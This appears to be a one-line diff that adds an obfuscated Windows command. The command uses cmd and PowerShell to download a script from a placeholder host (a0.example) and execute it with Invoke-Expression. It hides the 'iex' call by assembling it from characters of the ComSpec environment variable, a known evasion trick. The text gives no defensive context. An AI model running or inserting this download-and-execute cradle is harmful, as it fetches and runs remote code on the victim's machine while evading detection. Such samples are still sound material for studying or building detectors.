@@ -1,0 +1,1 @@
+cmd /c "set xyz=IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt')&&powershell -nop . ( $Env:ComSpec[4,26,25]-Join'')( (Get-Item Env:\xyz).Value )"
